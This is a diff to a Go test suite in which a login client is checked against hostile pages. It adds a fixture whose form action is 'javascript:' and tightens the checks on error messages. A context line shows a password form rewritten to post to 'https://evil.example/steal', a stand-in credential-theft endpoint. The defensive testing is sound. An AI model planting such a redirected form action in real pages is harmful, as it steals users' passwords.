@@ -434,6 +434,11 @@ func TestLoginHostilePagesSay(t *testing.T) {
 				fmt.Fprint(w, strings.Replace(password, `method="post"`, `method="post" action="https://evil.example/steal"`, 1))
 			}
 		}, "the form posts to another site (evil.example)", 0},
+		{"form posting to javascript:", false, func(string) http.HandlerFunc {
+			return func(w http.ResponseWriter, r *http.Request) {
+				fmt.Fprint(w, strings.Replace(password, `method="post"`, `method="post" action="javascript:void(0)"`, 1))
+			}
+		}, "the form posts to another site", 0},
 		{"a one-time code field without a name", false, func(string) http.HandlerFunc {
 			return func(w http.ResponseWriter, r *http.Request) {
 				if r.Method == http.MethodGet {
@@ -480,7 +485,7 @@ func TestLoginHostilePagesSay(t *testing.T) {
 			if !errors.Is(err, auth.ErrUnexpectedPage) && !errors.Is(err, auth.ErrServer) || !strings.Contains(err.Error(), tt.want) {
 				t.Fatalf("err = %v, want one that says %q", err, tt.want)
 			}
-			if msg := err.Error(); len(msg) > 300 || strings.ContainsRune(msg, '\u202e') {
+			if msg := err.Error(); len(msg) > 300 || strings.ContainsRune(msg, '\u202e') || strings.Contains(msg, "()") {
 				t.Errorf("the message is %d bytes, or carries a bidi override: %.300q", len(msg), msg)
 			}
 			mu.Lock()
